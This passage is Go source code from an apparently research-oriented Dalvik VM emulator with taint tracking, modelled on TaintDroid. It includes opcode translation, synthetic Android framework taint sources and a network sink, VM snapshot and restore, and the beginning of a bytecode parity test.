		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float64frombits(th.regWide(f, B))
			c := math.Float64frombits(th.regWide(f, C))
			th.setReg(f, A, uint32(cmpOrder(b, c)))
			t := th.regTaint(f, B) | th.regTaint(f, B+1) |
				th.regTaint(f, C) | th.regTaint(f, C+1)
			th.setRegTaint(f, A, t)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			b := math.Float64frombits(th.regWide(f, B))
			c := math.Float64frombits(th.regWide(f, C))
			th.setReg(f, A, uint32(cmpOrder(b, c)))
			return jsNext
		}
		return t, c
	case dex.CmpLong:
		t := func(vm *VM, th *Thread, f *Frame) jstepRes {
			v := cmpLongVal(int64(th.regWide(f, B)), int64(th.regWide(f, C)))
			th.setReg(f, A, uint32(v))
			t := th.regTaint(f, B) | th.regTaint(f, B+1) |
				th.regTaint(f, C) | th.regTaint(f, C+1)
			th.setRegTaint(f, A, t)
			return jsNext
		}
		c := func(vm *VM, th *Thread, f *Frame) jstepRes {
			v := cmpLongVal(int64(th.regWide(f, B)), int64(th.regWide(f, C)))
			th.setReg(f, A, uint32(v))
			return jsNext
		}
		return t, c

	case dex.Throw:
		s := func(vm *VM, th *Thread, f *Frame) jstepRes {
			o, ok := vm.objects[th.reg(f, A)]
			if !ok {
				f.thrown = vm.makeThrowable(th, npeClass, "throw on null")
				return jsThrow
			}
			f.thrown = o
			return jsThrow
		}
		return s, s

	default:
		e := errStep(vm.errorf("%s: unimplemented op %s at pc %d", m.FullName(), insn.Op, pc))
		return e, e
	}
}

// boundsCheck resolves the array register and index register of an array op,
// throwing the interpreter's exact exceptions on null or out-of-range.
func boundsCheck(vm *VM, th *Thread, f *Frame, m *dex.Method, arrReg, idxReg int) (*Object, int, jstepRes) {
	arr, err := vm.arrayAt(m, th.reg(f, arrReg))
	if err != nil {
		f.thrown = vm.makeThrowable(th, npeClass, err.Error())
		return nil, 0, jsThrow
	}
	idx := int(int32(th.reg(f, idxReg)))
	if idx < 0 || idx >= arr.Len {
		f.thrown = vm.makeThrowable(th, aioobClass,
			fmt.Sprintf("index %d length %d", idx, arr.Len))
		return nil, 0, jsThrow
	}
	return arr, idx, jsNext
}

func cmpLongVal(b, c int64) int32 {
	switch {
	case b < c:
		return -1
	case b > c:
		return 1
	}
	return 0
}

// buildInvoke compiles an invoke instruction. Static/direct targets are
// resolved at translate time (RegisterClass bumps the epoch, so late
// registration retranslates); virtual dispatch keeps a one-entry monomorphic
// cache on the receiver's class. Argument marshalling uses the VM's pooled
// scratch slices — the clean variant skips the shadow reads entirely, exactly
// like prepareInvoke's gate fast path.
func (vm *VM) buildInvoke(m *dex.Method, insn *dex.Insn) (jstep, jstep) {
	argRegs := insn.Args
	className, memberName := insn.ClassName, insn.MemberName

	var resolved *dex.Method
	if insn.Op != dex.InvokeVirtual {
		if insn.ResolvedMethod == nil {
			cls, ok := vm.classes[className]
			if !ok {
				s := throwStep(npeClass, fmt.Sprintf("unknown class %s", className))
				return s, s
			}
			mm, ok := cls.Method(memberName)
			if !ok {
				s := throwStep(npeClass, fmt.Sprintf("unknown method %s.%s", className, memberName))
				return s, s
			}
			insn.ResolvedMethod = mm
		}
		resolved = insn.ResolvedMethod
	}

	// findTarget resolves the callee at run time; cacheCls/cacheTarget are
	// per-closure-pair monomorphic cache cells (reset on retranslation).
	var cacheCls *dex.Class
	var cacheTarget *dex.Method
	findTarget := func(vm *VM, th *Thread, f *Frame) (*dex.Method, jstepRes) {
		if resolved != nil {
			return resolved, jsNext
		}
		recv, ok := vm.objects[th.reg(f, argRegs[0])]
		if !ok {
			f.thrown = vm.makeThrowable(th, npeClass,
				fmt.Sprintf("invoke-virtual %s.%s on null receiver", className, memberName))
			return nil, jsThrow
		}
		cls := recv.Class
		if cls == nil {
			cls = vm.classes[className]
		}
		if cls != nil && cls == cacheCls {
			return cacheTarget, jsNext
		}
		var target *dex.Method
		for walk := cls; walk != nil; walk = vm.classes[walk.Super] {
			if mm, ok := walk.Method(memberName); ok {
				target = mm
				break
			}
		}
		if target == nil {
			f.thrown = vm.makeThrowable(th, npeClass,
				fmt.Sprintf("unresolvable method %s.%s", className, memberName))
			return nil, jsThrow
		}
		if cls != nil {
			cacheCls, cacheTarget = cls, target
		}
		return target, jsNext
	}

	finish := func(vm *VM, th *Thread, f *Frame, target *dex.Method, args []uint32, taints []taint.Tag) jstepRes {
		ret, rt, threw, err := vm.Invoke(th, target, args, taints)
		vm.putScratch(args, taints)
		if err != nil {
			f.terr = err
			return jsErr
		}
		if threw != nil {
			f.thrown = threw
			return jsThrow
		}
		th.RetVal = ret
		// Re-evaluated at run time (not baked into the variant): the invoke
		// itself may have run the first source and flipped the latch, and its
		// return taint must then survive.
		if !vm.tainting() {
			rt = 0
		}
		th.RetTaint = rt
		return jsCall
	}

	t := func(vm *VM, th *Thread, f *Frame) jstepRes {
		target, res := findTarget(vm, th, f)
		if res != jsNext {
			return res
		}
		args, taints := vm.getScratch(len(argRegs))
		for i, r := range argRegs {
			args[i] = th.reg(f, r)
			taints[i] = th.regTaint(f, r)
		}
		return finish(vm, th, f, target, args, taints)
	}
	c := func(vm *VM, th *Thread, f *Frame) jstepRes {
		target, res := findTarget(vm, th, f)
		if res != jsNext {
			return res
		}
		// Clean frame: every taint slot is provably zero, skip the shadow
		// reads (scratch taints are handed out zeroed).
		args, taints := vm.getScratch(len(argRegs))
		for i, r := range argRegs {
			args[i] = th.reg(f, r)
		}
		return finish(vm, th, f, target, args, taints)
	}
	return t, c
}
