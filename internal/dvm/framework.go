package dvm

import (
	"fmt"

	"repro/internal/dex"
	"repro/internal/taint"
)

// Synthetic device data returned by the framework sources. Values echo the
// paper's logs where it shows them (Fig. 8's contact, Fig. 9's line number
// and network operator).
const (
	DeviceIMEI      = "354957031111111"
	DeviceIMSI      = "310260000000000"
	DeviceLine1     = "15555215554"
	DeviceOperator  = "310260"
	DeviceICCID     = "89014103211118510720"
	ContactID       = "1"
	ContactName     = "Vincent"
	ContactEmail    = "cx@gg.com"
	SMSBody         = "PIN is 8731, do not share"
	DeviceLocation  = "22.2819,114.1589"
	FrameworkMarker = "Landroid/" // prefix of framework classes
)

// registerFramework installs the Android-framework stand-ins: taint sources
// (telephony, contacts, SMS, location), the Java-context network sink, the
// String/System helpers app bytecode needs, and the exception hierarchy.
func registerFramework(vm *VM) {
	// --- exception hierarchy ---
	exc := dex.NewClass("Ljava/lang/Exception;").
		InstanceField("message", false).
		Build()
	ctor := &dex.Method{Class: exc, Name: "<init>", Shorty: "VL", Flags: dex.AccPublic}
	ctor.Builtin = Builtin(func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		if o, ok := vm.objects[args[0]]; ok && len(o.Fields) > 0 {
			o.Fields[0] = args[1]
			if len(taints) > 1 {
				o.FieldTaints[0] = taints[1]
				// The exception reference itself carries the message taint so
				// catch-site propagation works.
				if msg, ok := vm.objects[args[1]]; ok {
					o.Taint |= msg.Taint | taints[1]
				}
			}
		}
		return 0, 0, nil
	})
	getMsg := &dex.Method{Class: exc, Name: "getMessage", Shorty: "L", Flags: dex.AccPublic}
	getMsg.Builtin = Builtin(func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		o, ok := vm.objects[args[0]]
		if !ok || len(o.Fields) == 0 {
			return 0, 0, nil
		}
		msgAddr := o.Fields[0]
		t := o.FieldTaints[0]
		if msg, ok := vm.objects[msgAddr]; ok {
			t |= msg.Taint
		}
		return uint64(msgAddr), t, nil
	})
	exc.Methods = append(exc.Methods, ctor, getMsg)
	vm.RegisterClass(exc)

	for _, name := range []string{
		"Ljava/lang/RuntimeException;",
		"Ljava/lang/NullPointerException;",
		"Ljava/lang/ArithmeticException;",
		"Ljava/lang/ArrayIndexOutOfBoundsException;",
	} {
		sub := dex.NewClass(name).Super("Ljava/lang/Exception;").
			InstanceField("message", false).Build()
		vm.RegisterClass(sub)
	}

	// --- java/lang/Object ---
	objCls := dex.NewClass("Ljava/lang/Object;").Build()
	objInit := &dex.Method{Class: objCls, Name: "<init>", Shorty: "V", Flags: dex.AccPublic}
	objInit.Builtin = Builtin(func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		return 0, 0, nil
	})
	objCls.Methods = append(objCls.Methods, objInit)
	vm.RegisterClass(objCls)

	// --- java/lang/String ---
	strCls := dex.NewClass("Ljava/lang/String;").Build()
	addBuiltin(vm, strCls, "concat", "LL", 0, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		a, aok := vm.objects[args[0]]
		b, bok := vm.objects[args[1]]
		if !aok || !bok {
			return 0, 0, vm.makeThrowable(th, "Ljava/lang/NullPointerException;", "concat")
		}
		o := vm.NewString(a.Str + b.Str)
		o.Taint = a.Taint | b.Taint | taints[0] | taints[1]
		return uint64(o.Addr), o.Taint, nil
	})
	addBuiltin(vm, strCls, "length", "I", 0, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		o, ok := vm.objects[args[0]]
		if !ok {
			return 0, 0, vm.makeThrowable(th, "Ljava/lang/NullPointerException;", "length")
		}
		return uint64(len(o.Str)), o.Taint | taints[0], nil
	})
	addBuiltin(vm, strCls, "valueOf", "LI", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		o := vm.NewString(fmt.Sprintf("%d", int32(args[0])))
		o.Taint = taints[0]
		return uint64(o.Addr), o.Taint, nil
	})
	addBuiltin(vm, strCls, "getBytes", "L", 0, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		o, ok := vm.objects[args[0]]
		if !ok {
			return 0, 0, vm.makeThrowable(th, "Ljava/lang/NullPointerException;", "getBytes")
		}
		arr := vm.NewArray('B', len(o.Str))
		copy(arr.Data, o.Str)
		arr.Taint = o.Taint | taints[0]
		return uint64(arr.Addr), arr.Taint, nil
	})
	vm.RegisterClass(strCls)

	// --- java/lang/System ---
	sysCls := dex.NewClass("Ljava/lang/System;").Build()
	addBuiltin(vm, sysCls, "loadLibrary", "VL", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		if o, ok := vm.objects[args[0]]; ok {
			vm.loadedLibs = append(vm.loadedLibs, o.Str)
		}
		return 0, 0, nil
	})
	addBuiltin(vm, sysCls, "load", "VL", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		if o, ok := vm.objects[args[0]]; ok {
			vm.loadedLibs = append(vm.loadedLibs, o.Str)
		}
		return 0, 0, nil
	})
	vm.RegisterClass(sysCls)

	// --- sources: telephony ---
	tel := dex.NewClass("Landroid/telephony/TelephonyManager;").Build()
	source := func(name, value string, tag taint.Tag) {
		addBuiltin(vm, tel, name, "L", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
			o := vm.NewString(value)
			if vm.TaintJava {
				o.Taint = tag
			}
			return uint64(o.Addr), o.Taint, nil
		})
		vm.markSource(tel.Name + "." + name)
	}
	source("getDeviceId", DeviceIMEI, taint.IMEI)
	source("getSubscriberId", DeviceIMSI, taint.IMSI)
	source("getLine1Number", DeviceLine1, taint.PhoneNumber)
	source("getSimSerialNumber", DeviceICCID, taint.ICCID)
	source("getNetworkOperator", DeviceOperator, taint.IMSI)
	vm.RegisterClass(tel)

	// --- sources: contacts / SMS / location ---
	contacts := dex.NewClass("Landroid/provider/Contacts;").Build()
	csource := func(c *dex.Class, name, value string, tag taint.Tag) {
		addBuiltin(vm, c, name, "L", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
			o := vm.NewString(value)
			if vm.TaintJava {
				o.Taint = tag
			}
			return uint64(o.Addr), o.Taint, nil
		})
		vm.markSource(c.Name + "." + name)
	}
	csource(contacts, "getContactId", ContactID, taint.Contacts)
	csource(contacts, "getContactName", ContactName, taint.Contacts)
	csource(contacts, "getContactEmail", ContactEmail, taint.Contacts)
	vm.RegisterClass(contacts)

	sms := dex.NewClass("Landroid/telephony/SmsManager;").Build()
	csource(sms, "getLastMessage", SMSBody, taint.SMS)
	vm.RegisterClass(sms)

	loc := dex.NewClass("Landroid/location/LocationManager;").Build()
	csource(loc, "getLastKnownLocation", DeviceLocation, taint.Location)
	vm.RegisterClass(loc)

	// --- Java-context network sink (TaintDroid's sink set) ---
	net := dex.NewClass("Landroid/net/Network;").Build()
	addBuiltin(vm, net, "send", "VLL", dex.AccStatic, func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (uint64, taint.Tag, *Object) {
		dest, data := "", ""
		var tag taint.Tag
		if o, ok := vm.objects[args[0]]; ok {
			dest = o.Str
		}
		if o, ok := vm.objects[args[1]]; ok {
			data = o.Str
			tag |= o.Taint
		}
		tag |= taints[0] | taints[1]
		// The bytes really leave the device through the emulated network.
		s := vm.Kern.Net.NewSocket()
		s.Connect(dest, 80)
		vm.Kern.Net.Send(s, []byte(data))
		if vm.TaintJava && tag != 0 && vm.JavaLeakFn != nil {
			vm.JavaLeakFn(JavaLeak{Sink: "Network.send", Dest: dest, Data: data, Tag: tag})
		}
		return 0, 0, nil
	})
	vm.markSink(net.Name + ".send")
	vm.RegisterClass(net)
}

// addBuiltin attaches a host-implemented method to a framework class.
func addBuiltin(vm *VM, c *dex.Class, name, shorty string, flags uint32, fn Builtin) {
	m := &dex.Method{Class: c, Name: name, Shorty: shorty, Flags: flags | dex.AccPublic}
	m.Builtin = fn
	c.Methods = append(c.Methods, m)
}
