package dvm

// VM snapshot/restore for the copy-on-write System snapshot (core.Snapshot).
// Guest-memory contents (frame slots, object headers, stacks) are handled by
// mem.Memory's page-level COW; this file rewinds the host-side VM structures
// that shadow them: the class registry, the object graph, reference tables,
// hooks, flags, and counters.
//
// transEpoch is deliberately NOT part of the snapshot. The epoch is the
// validity token baked into compiled methods, and restoring it backwards
// could revalidate a method compiled against post-snapshot state (a hook or
// class registered during the attempt). Restore instead bumps the epoch once:
// compiled code from the warm boot re-translates lazily, and everything
// compiled during the discarded attempt is dead by construction.

import (
	"repro/internal/dex"
	"repro/internal/taint"
)

// threadSnap is the rewindable state of one interpreter thread.
type threadSnap struct {
	th       *Thread
	cur      uint32
	frames   int
	retVal   uint64
	retTaint taint.Tag
	exc      *Object
}

// VMSnapshot holds the captured VM state.
type VMSnapshot struct {
	classes      map[string]*dex.Class
	staticData   map[*dex.Class][]uint32
	staticTaints map[*dex.Class][]uint32

	objects    map[uint32]*Object
	heapCursor uint32
	allocCount int
	gcThresh   int
	gcCount    int
	onGCMove   func(old, new uint32, o *Object)

	irt       map[uint32]*Object
	nextLocal uint32
	nextGlob  uint32
	locals    [][]uint32

	methodIDs []*dex.Method
	fieldIDs  []*dex.Field

	hooks map[string][]InternalHook

	taintJava, gateJava, taintSeen   bool
	interpretHookAll, noJavaTrans    bool
	fuseNative                       bool
	live                             *taint.Liveness
	javaStepFn                       func(th *Thread, m *dex.Method, pc int, insn *dex.Insn)
	javaLeakFn                       func(JavaLeak)
	onRegisterNatives                func(m *dex.Method, old, new uint32)
	onJNICall                        func(m *dex.Method)
	onNativeBind                     func(m *dex.Method, old, new uint32, dynamic bool)
	onReflectCall                    func(m *dex.Method)
	nativeBudget, javaBudget         uint64
	javaInsns, javaTransMethods      uint64
	javaCleanFrames, javaTaintFrames uint64
	javaGateBails, javaDeopts        uint64
	javaPinnedFrames                 uint64
	jniCrossings, javaFusedChains    uint64
	javaFusedCalls, javaFuseDeopts   uint64

	pinnedClean   map[*dex.Method]bool
	sourceMethods map[string]bool
	sinkMethods   map[string]bool

	interned map[*dex.Insn]*Object

	threads   []threadSnap
	curThread *Thread
	padDepth  int

	loadedLibs  []string
	nativeLibs  []LoadedLib
	nextLibBase uint32
}

// copyObject makes an isolated copy of o (slices included). Class pointers
// are shared — dex.Class identity must be stable across restore, which holds
// because snapshot-time objects only reference boot-registered classes and
// the restore puts those exact classes back in the registry.
func copyObject(o *Object) *Object {
	c := *o
	if o.Fields != nil {
		c.Fields = append([]uint32(nil), o.Fields...)
	}
	if o.FieldTaints != nil {
		c.FieldTaints = append([]taint.Tag(nil), o.FieldTaints...)
	}
	if o.Data != nil {
		c.Data = append([]byte(nil), o.Data...)
	}
	return &c
}

// Snapshot captures the VM's mutable state. The object graph is deep-copied
// (boot heaps are small — tens of objects); class bodies are shared except
// for their mutable static-field slots, which are copied.
func (vm *VM) Snapshot() *VMSnapshot {
	s := &VMSnapshot{
		classes:      make(map[string]*dex.Class, len(vm.classes)),
		staticData:   make(map[*dex.Class][]uint32),
		staticTaints: make(map[*dex.Class][]uint32),

		objects:    make(map[uint32]*Object, len(vm.objects)),
		heapCursor: vm.heapCursor,
		allocCount: vm.allocCount,
		gcThresh:   vm.GCThreshold,
		gcCount:    vm.GCCount,
		onGCMove:   vm.OnGCMove,

		irt:       make(map[uint32]*Object, len(vm.irt)),
		nextLocal: vm.nextLocal,
		nextGlob:  vm.nextGlob,

		methodIDs: append([]*dex.Method(nil), vm.methodIDs...),
		fieldIDs:  append([]*dex.Field(nil), vm.fieldIDs...),

		hooks: make(map[string][]InternalHook, len(vm.hooks)),

		taintJava:         vm.TaintJava,
		gateJava:          vm.GateJava,
		taintSeen:         vm.taintSeen,
		interpretHookAll:  vm.InterpretHookAll,
		noJavaTrans:       vm.NoJavaTranslate,
		fuseNative:        vm.FuseNative,
		live:              vm.Live,
		javaStepFn:        vm.javaStepFn,
		javaLeakFn:        vm.JavaLeakFn,
		onRegisterNatives: vm.OnRegisterNatives,
		onJNICall:         vm.OnJNICall,
		onNativeBind:      vm.OnNativeBind,
		onReflectCall:     vm.OnReflectCall,
		nativeBudget:      vm.NativeBudget,
		javaBudget:        vm.JavaBudget,
		javaInsns:         vm.JavaInsnCount,
		javaTransMethods:  vm.JavaTransMethods,
		javaCleanFrames:   vm.JavaCleanFrames,
		javaTaintFrames:   vm.JavaTaintFrames,
		javaGateBails:     vm.JavaGateBails,
		javaDeopts:        vm.JavaDeopts,
		javaPinnedFrames:  vm.JavaPinnedFrames,
		jniCrossings:      vm.JNICrossings,
		javaFusedChains:   vm.JavaFusedChains,
		javaFusedCalls:    vm.JavaFusedCalls,
		javaFuseDeopts:    vm.JavaFuseDeopts,

		interned: make(map[*dex.Insn]*Object, len(vm.internedStrings)),

		curThread: vm.curThread,
		padDepth:  vm.padDepth,

		loadedLibs:  append([]string(nil), vm.loadedLibs...),
		nativeLibs:  append([]LoadedLib(nil), vm.nativeLibs...),
		nextLibBase: vm.nextLibBase,
	}

	for name, c := range vm.classes {
		s.classes[name] = c
		if c.StaticData != nil {
			s.staticData[c] = append([]uint32(nil), c.StaticData...)
		}
		if c.StaticTaints != nil {
			s.staticTaints[c] = append([]uint32(nil), c.StaticTaints...)
		}
	}

	// Deep-copy the object graph; ident maps live objects to their copies so
	// the reference tables can be captured against the copies.
	ident := make(map[*Object]*Object, len(vm.objects))
	for addr, o := range vm.objects {
		c := copyObject(o)
		ident[o] = c
		s.objects[addr] = c
	}
	for ref, o := range vm.irt {
		if c, ok := ident[o]; ok {
			s.irt[ref] = c
		} else {
			s.irt[ref] = o
		}
	}
	for insn, o := range vm.internedStrings {
		if c, ok := ident[o]; ok {
			s.interned[insn] = c
		} else {
			s.interned[insn] = o
		}
	}
	s.locals = make([][]uint32, len(vm.locals))
	for i, frame := range vm.locals {
		s.locals[i] = append([]uint32(nil), frame...)
	}

	for name, hs := range vm.hooks {
		s.hooks[name] = append([]InternalHook(nil), hs...)
	}

	if vm.pinnedClean != nil {
		s.pinnedClean = make(map[*dex.Method]bool, len(vm.pinnedClean))
		for m := range vm.pinnedClean {
			s.pinnedClean[m] = true
		}
	}
	if vm.sourceMethods != nil {
		s.sourceMethods = make(map[string]bool, len(vm.sourceMethods))
		for n := range vm.sourceMethods {
			s.sourceMethods[n] = true
		}
	}
	if vm.sinkMethods != nil {
		s.sinkMethods = make(map[string]bool, len(vm.sinkMethods))
		for n := range vm.sinkMethods {
			s.sinkMethods[n] = true
		}
	}

	for _, th := range vm.threads {
		var exc *Object
		if th.Exception != nil {
			if c, ok := ident[th.Exception]; ok {
				exc = c
			} else {
				exc = th.Exception
			}
		}
		s.threads = append(s.threads, threadSnap{
			th: th, cur: th.cur, frames: len(th.Frames),
			retVal: th.RetVal, retTaint: th.RetTaint, exc: exc,
		})
	}
	return s
}

// Restore rewinds the VM to s. Object copies held by the snapshot are
// re-copied in, so a snapshot survives any number of restores. The
// translation epoch is bumped, never rewound (see the file comment).
func (vm *VM) Restore(s *VMSnapshot) {
	vm.classes = make(map[string]*dex.Class, len(s.classes))
	for name, c := range s.classes {
		vm.classes[name] = c
		if sd, ok := s.staticData[c]; ok {
			c.StaticData = append(c.StaticData[:0], sd...)
		} else {
			c.StaticData = nil
		}
		if st, ok := s.staticTaints[c]; ok {
			c.StaticTaints = append(c.StaticTaints[:0], st...)
		} else {
			c.StaticTaints = nil
		}
	}

	ident := make(map[*Object]*Object, len(s.objects))
	vm.objects = make(map[uint32]*Object, len(s.objects))
	for addr, o := range s.objects {
		c := copyObject(o)
		ident[o] = c
		vm.objects[addr] = c
	}
	vm.heapCursor = s.heapCursor
	vm.allocCount = s.allocCount
	vm.GCThreshold = s.gcThresh
	vm.GCCount = s.gcCount
	vm.OnGCMove = s.onGCMove

	vm.irt = make(map[uint32]*Object, len(s.irt))
	for ref, o := range s.irt {
		if c, ok := ident[o]; ok {
			vm.irt[ref] = c
		} else {
			vm.irt[ref] = o
		}
	}
	vm.nextLocal, vm.nextGlob = s.nextLocal, s.nextGlob
	vm.locals = make([][]uint32, len(s.locals))
	for i, frame := range s.locals {
		vm.locals[i] = append([]uint32(nil), frame...)
	}

	vm.methodIDs = append(vm.methodIDs[:0], s.methodIDs...)
	vm.fieldIDs = append(vm.fieldIDs[:0], s.fieldIDs...)

	vm.hooks = make(map[string][]InternalHook, len(s.hooks))
	for name, hs := range s.hooks {
		vm.hooks[name] = append([]InternalHook(nil), hs...)
	}

	vm.TaintJava = s.taintJava
	vm.GateJava = s.gateJava
	vm.taintSeen = s.taintSeen
	vm.InterpretHookAll = s.interpretHookAll
	vm.NoJavaTranslate = s.noJavaTrans
	vm.FuseNative = s.fuseNative
	vm.Live = s.live
	vm.javaStepFn = s.javaStepFn
	vm.JavaLeakFn = s.javaLeakFn
	vm.OnRegisterNatives = s.onRegisterNatives
	vm.OnJNICall = s.onJNICall
	vm.OnNativeBind = s.onNativeBind
	vm.OnReflectCall = s.onReflectCall
	vm.NativeBudget, vm.JavaBudget = s.nativeBudget, s.javaBudget
	vm.JavaInsnCount = s.javaInsns
	vm.JavaTransMethods = s.javaTransMethods
	vm.JavaCleanFrames = s.javaCleanFrames
	vm.JavaTaintFrames = s.javaTaintFrames
	vm.JavaGateBails = s.javaGateBails
	vm.JavaDeopts = s.javaDeopts
	vm.JavaPinnedFrames = s.javaPinnedFrames
	vm.JNICrossings = s.jniCrossings
	vm.JavaFusedChains = s.javaFusedChains
	vm.JavaFusedCalls = s.javaFusedCalls
	vm.JavaFuseDeopts = s.javaFuseDeopts

	// Fusion state does not survive a restore: chains and heat counters are
	// keyed by method pointers from the discarded attempt, and the epoch bump
	// below would invalidate every chain anyway. Marshalling plans are kept —
	// they derive only from immutable method metadata of the shared dex tree.
	vm.fused = nil
	vm.fuseHeat = nil
	vm.fuseSeeds = nil

	vm.pinnedClean = nil
	if s.pinnedClean != nil {
		vm.pinnedClean = make(map[*dex.Method]bool, len(s.pinnedClean))
		for m := range s.pinnedClean {
			vm.pinnedClean[m] = true
		}
	}
	vm.sourceMethods = nil
	if s.sourceMethods != nil {
		vm.sourceMethods = make(map[string]bool, len(s.sourceMethods))
		for n := range s.sourceMethods {
			vm.sourceMethods[n] = true
		}
	}
	vm.sinkMethods = nil
	if s.sinkMethods != nil {
		vm.sinkMethods = make(map[string]bool, len(s.sinkMethods))
		for n := range s.sinkMethods {
			vm.sinkMethods[n] = true
		}
	}

	vm.internedStrings = make(map[*dex.Insn]*Object, len(s.interned))
	for insn, o := range s.interned {
		if c, ok := ident[o]; ok {
			vm.internedStrings[insn] = c
		} else {
			vm.internedStrings[insn] = o
		}
	}

	// Threads created after the snapshot are dropped; surviving threads have
	// any attempt-time frames released back to the pool and their interpreter
	// save-state rewound.
	vm.threads = vm.threads[:len(s.threads)]
	for _, ts := range s.threads {
		th := ts.th
		for len(th.Frames) > ts.frames {
			f := th.Frames[len(th.Frames)-1]
			th.Frames = th.Frames[:len(th.Frames)-1]
			vm.putFrame(f)
		}
		th.cur = ts.cur
		th.RetVal, th.RetTaint = ts.retVal, ts.retTaint
		if c, ok := ident[ts.exc]; ok {
			th.Exception = c
		} else {
			th.Exception = ts.exc
		}
	}
	vm.curThread = s.curThread
	vm.padDepth = s.padDepth

	vm.loadedLibs = append(vm.loadedLibs[:0], s.loadedLibs...)
	vm.nativeLibs = append(vm.nativeLibs[:0], s.nativeLibs...)
	vm.nextLibBase = s.nextLibBase

	// Monotonic: invalidate everything compiled during the attempt (and force
	// lazy retranslation of warm-boot methods) instead of rewinding the epoch.
	vm.transEpoch++
}
