package dvm

import (
	"testing"

	"repro/internal/dex"
	"repro/internal/taint"
)

// registerParityClasses builds a class hierarchy exercising every translated
// opcode family: arithmetic (int/long/float/double), conversions, compares,
// arrays (narrow and wide), instance/static fields, const-strings, static and
// virtual invokes with overriding, and exception paths (caught, rethrown,
// propagated across frames). Classes must be built fresh per VM.
func registerParityClasses(vm *VM) {
	const base = "Lcom/parity/Base;"
	const sub = "Lcom/parity/Sub;"
	const k = "Lcom/parity/K;"

	bb := dex.NewClass(base)
	bb.InstanceField("x", false)
	bb.Method("weight", "I", 0, 1).
		Const(0, 10).
		Return(0).
		Done()
	vm.RegisterClass(bb.Build())

	sb := dex.NewClass(sub).Super(base)
	sb.Method("weight", "I", 0, 1).
		Const(0, 77).
		Return(0).
		Done()
	vm.RegisterClass(sb.Build())

	cb := dex.NewClass(k)
	cb.StaticField("acc", false)

	// Integer/shift/compare kitchen sink: f(n) over a loop.
	cb.Method("arith", "II", dex.AccStatic, 4).
		Const(0, 0).
		Const(1, 3).
		Label("loop").
		IfZ(4, dex.Le, "done").
		Bin(dex.Add, 0, 0, 4).
		Bin(dex.Xor, 0, 0, 1).
		Bin(dex.Shl, 2, 0, 1).
		Bin(dex.Ushr, 2, 2, 1).
		Bin(dex.Or, 0, 0, 2).
		BinLit(dex.And, 0, 0, 0x7fffffff).
		BinLit(dex.Rem, 2, 0, 9973).
		BinLit(dex.Sub, 4, 4, 1).
		Goto("loop").
		Label("done").
		Return(2).
		Done()

	// Wide + float + double arithmetic and conversions, result folded to int.
	cb.Method("fp", "II", dex.AccStatic, 8).
		IntToLong(0, 8).               // (v0,v1) = n
		ConstWide(2, 7).               // (v2,v3) = 7
		BinWide(dex.Mul, 0, 0, 2).     //
		BinWide(dex.Add, 0, 0, 2).     //
		LongToInt(4, 0).               //
		IntToFloat(5, 4).              //
		IntToFloat(6, 8).              //
		BinFloat(dex.Add, 5, 5, 6).    //
		BinFloat(dex.Mul, 5, 5, 6).    //
		FloatToInt(5, 5).              //
		IntToDouble(0, 5).             // (v0,v1)
		IntToDouble(2, 8).             // (v2,v3)
		BinDouble(dex.Div, 0, 0, 2).   //
		DoubleToInt(6, 0).             //
		CmpFloatOp(7, 5, 6).           //
		Bin(dex.Add, 6, 6, 7).         //
		Bin(dex.Add, 6, 6, 5).         //
		Bin(dex.Add, 6, 6, 4).         //
		Return(6).
		Done()

	// Arrays: narrow get/put, length, plus static-field accumulation.
	cb.Method("arrays", "II", dex.AccStatic, 4).
		Const(0, 16).
		NewArray(1, 0, "I").
		Const(0, 0). // i
		Label("fill").
		If(0, dex.Ge, 4, "sum").
		Bin(dex.Mul, 2, 0, 0).
		Aput(2, 1, 0).
		BinLit(dex.Add, 0, 0, 1).
		Goto("fill").
		Label("sum").
		ArrayLength(0, 1).
		Sput(0, k, "acc").
		Const(0, 0).
		Const(2, 0).
		Label("sl").
		If(0, dex.Ge, 4, "out").
		Aget(3, 1, 0).
		Bin(dex.Add, 2, 2, 3).
		BinLit(dex.Add, 0, 0, 1).
		Goto("sl").
		Label("out").
		Sget(3, k, "acc").
		Bin(dex.Add, 2, 2, 3).
		Return(2).
		Done()

	// Instance fields + const-string + virtual dispatch on both classes.
	cb.Method("objs", "II", dex.AccStatic, 4).
		NewInstance(0, sub).
		InvokeDirect(sub, "<init>", "V", 0).
		Iput(4, 0, base, "x").
		Iget(1, 0, base, "x").
		InvokeVirtual(base, "weight", "I", 0). // dispatches to Sub.weight
		MoveResult(2).
		Bin(dex.Add, 1, 1, 2).
		ConstString(3, "parity").
		InvokeVirtual("Ljava/lang/String;", "length", "I", 3).
		MoveResult(3).
		Bin(dex.Add, 1, 1, 3).
		Return(1).
		Done()
	// Sub needs a direct <init>.
	subCls, _ := vm.Class(sub)
	ib := dex.NewClass("Lcom/parity/tmp;") // builder only; method moved below
	init := ib.Method("<init>", "VL", 0, 0).
		ReturnVoid().
		Done()
	init.Class = subCls
	subCls.Methods = append(subCls.Methods, init)

	// Exceptions: caught div-by-zero, caught explicit throw, and an
	// out-of-bounds caught from a callee two frames down.
	cb.Method("boom", "VI", dex.AccStatic, 2).
		Const(0, 4).
		NewArray(0, 0, "I").
		Aget(1, 0, 2). // index = arg, may be out of bounds
		ReturnVoid().
		Done()
	cb.Method("excep", "III", dex.AccStatic, 3).
		Label("t0").
